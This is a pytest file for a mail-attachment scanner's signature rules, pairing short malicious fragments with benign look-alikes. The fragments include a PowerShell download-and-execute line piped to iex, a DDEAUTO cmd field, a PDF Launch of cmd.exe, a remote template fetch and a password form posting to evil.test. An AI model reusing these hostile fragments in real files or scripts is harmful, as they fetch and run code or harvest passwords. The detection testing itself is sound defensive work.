"""Our own yara rules: each on what it is for, and on what looks like it and is honest."""

import threading

import pytest

from apps.scan.attachments import rules
from apps.scan.attachments.signatures import found_in
from tests.support.cost import cost

# rule: (content, kind, ending, marks)
BAD: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    "macro_starts": ("Private Sub Workbook_Open()\r\n", "text", "bas", ("source",)),
    "macro_runs": ('Set x = CreateObject("MSXML2.XMLHTTP")', "text", "bas", ("source",)),
    "macro_of_excel_4": (
        "<xm:macrosheet><c><f>EXEC(&quot;calc&quot;)</f></c></xm:macrosheet>",
        "xml",
        "xml",
        (),
    ),
    "dde_field": (
        '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd "/k x"</w:instrText>',
        "xml",
        "xml",
        (),
    ),
    "document_fetches": (
        '<Relationship Type="http://x/relationships/attachedTemplate" '
        'Target="http://evil.test/a.dotm" TargetMode="External"/>',
        "xml",
        "rels",
        (),
    ),
    "equation_in_rtf": ("{\\rtf1{\\object{\\*\\objclass Equation.3}", "rtf", "doc", ()),
    "equation_object": ("\xd0\xcf\x11\xe0 Microsoft Equation.3", "ole", "doc", ()),
    "protocol_abuse": ('<script>location.href = "ms-msdt:/id x"</script>', "html", "html", ()),
    "page_makes_file": (
        "<script>var d = atob(x); saveAs(new Blob([d]), 'a.zip')</script>",
        "html",
        "html",
        (),
    ),
    "page_asks_password": (
        '<form method=post action="https://evil.test/x"><input name=p type="password">',
        "html",
        "htm",
        (),
    ),
    "page_hides_itself": ("<script>document.write(unescape('%3Ch'))</script>", "html", "html", ()),
    "picture_with_script": ("<svg xmlns='x'><script>alert(1)</script></svg>", "svg", "svg", ()),
    "pdf_launches": ("<< /S /Launch /Win << /F (cmd.exe) >> >>", "pdf", "pdf", ()),
    "pdf_script_at_opening": ("/OpenAction << /S /JavaScript /JS (x) >>", "pdf", "pdf", ()),
    "pdf_hidden_names": ("/J#61v#61Script /#4fpenAction /L#61unch", "pdf", "pdf", ()),
    "shortcut_runs": ("\x4c\0\0\0powershell -w hidden", "shortcut", "lnk", ()),
    "shortcut_elsewhere": ("[InternetShortcut]\r\nURL=file://evil.test/a.js", "text", "url", ()),
    "script_fetches": (
        "(New-Object Net.WebClient).DownloadFile($u, $f); Start-Process $f",
        "text",
        "ps1",
        (),
    ),
    "program_as_text": ("x = 'TVqQAAMAAAAEAAAA//8AALgA'", "text", "txt", ()),
    "autorun": ("[autorun]\r\nopen=a.exe\r\n", "text", "inf", ()),
}
HONEST: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    "macro_starts": (
        "Sub SortRows()\r\n' called by Workbook_Open of the other file",
        "text",
        "bas",
        ("source",),
    ),
    "macro_runs": ('MsgBox "Commander, the shell is ready"', "text", "bas", ("source",)),
    "macro_of_excel_4": ("<worksheet><f>SUM(A1:A9)</f></worksheet>", "xml", "xml", ()),
    "dde_field": ("Dde: our new commander of data", "text", "txt", ()),
    "document_fetches": (
        '<Relationship Type="http://x/relationships/hyperlink" Target="https://a.test/"/>'
        '<Relationship Type="http://x/relationships/attachedTemplate" Target="file:///S:/a.dotm"/>',
        "xml",
        "rels",
        (),
    ),
    "equation_in_rtf": ("{\\rtf1 How to get rid of Equation.3}", "rtf", "rtf", ()),
    "equation_object": ("An Equation.3 in a text about Equation Native", "text", "txt", ()),
    "protocol_abuse": ("<p>The address ms-msdt: was abused in 2022.</p>", "html", "html", ()),
    "page_makes_file": (
        "<p>Use atob, Blob and createObjectURL.</p><img src=x>",
        "html",
        "html",
        (),
    ),
    "page_asks_password": ("<input type=password>, then go on", "html", "html", ()),
    "page_hides_itself": ("<script>document.write(new Date())</script>", "html", "html", ()),
    "picture_with_script": (
        "<svg xmlns='x'><desc>one, once, online = 1</desc></svg>",
        "svg",
        "svg",
        (),
    ),
    "pdf_launches": ("(We Launch on Monday) /S /URI", "pdf", "pdf", ()),
    "pdf_script_at_opening": ("/OpenAction [3 0 R /Fit] /AcroForm 4 0 R", "pdf", "pdf", ()),
    "pdf_hidden_names": ("/BaseFont /Arial#20Bold /Times#2CItalic /A#20B /C#20D", "pdf", "pdf", ()),
    "shortcut_runs": ("\x4c\0\0\0C:\\Users\\carol\\Letter.docx", "shortcut", "lnk", ()),
    "shortcut_elsewhere": ("[InternetShortcut]\r\nURL=https://www.example.org/", "text", "url", ()),
    "script_fetches": ("Get-ChildItem | Sort-Object Length", "text", "ps1", ()),
    "program_as_text": ("TVqQ is how a program begins in base64", "text", "txt", ()),
    "autorun": ("[Version]\r\nSignature=x\r\nopen = no\r\n", "text", "inf", ()),
}


def names(told: tuple[str, str, str, tuple[str, ...]]) -> list[str]:
    """The rules that a file matches."""
    content, kind, ending, marks = told
    return found_in(content.encode("latin-1"), kind, ending, marks)


@pytest.mark.parametrize("rule", BAD)
def test_it_matches(rule: str) -> None:
    assert rule in names(BAD[rule])


@pytest.mark.parametrize("rule", HONEST)
def test_it_does_not_match(rule: str) -> None:
    assert names(HONEST[rule]) == []


def test_it_tries_every_rule() -> None:
    assert set(BAD) == set(HONEST) == set(rules.OF_SIGNATURE) - {"eicar"}


def test_it_reads_scripts_in_two_octets_a_letter() -> None:
    text = "(New-Object Net.WebClient).DownloadString($u) | iex".encode("utf-16-le")
    assert found_in(text, "text", "ps1", ()) == ["script_fetches"]


def test_it_opens_no_page_that_a_message_shows() -> None:
    content, kind, ending, _ = BAD["page_makes_file"]
    assert found_in(content.encode(), kind, ending, ("shown",)) == []


def test_it_serves_several_threads() -> None:
    found: list[list[str]] = []
    threads = [
        threading.Thread(target=lambda: found.append(names(BAD["autorun"]))) for _ in range(4)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert found == [["autorun"]] * 4


@pytest.mark.parametrize(
    ("content", "kind", "ending"),
    [
        (b"<form action=" * 80_000, "html", "html"),
        (b"/#4a" * 250_000, "pdf", "pdf"),
        (b"DDE " * 250_000, "text", "txt"),
        (b"href = " * 150_000, "svg", "svg"),
        (b'Type="x/' * 120_000, "xml", "rels"),
        (b"TVp" + b"A" * 1_000_000, "text", "txt"),
        (b"<f>" * 350_000, "xml", "xml"),
        (b"<" * 1_000_000, "html", "html"),
    ],
)
def test_it_is_quick_about_a_megabyte_of_anything(content: bytes, kind: str, ending: str) -> None:
    found_in(b"x", "text", "", ())
    assert cost(lambda: found_in(content, kind, ending, ("source", "object"))) < 0.5
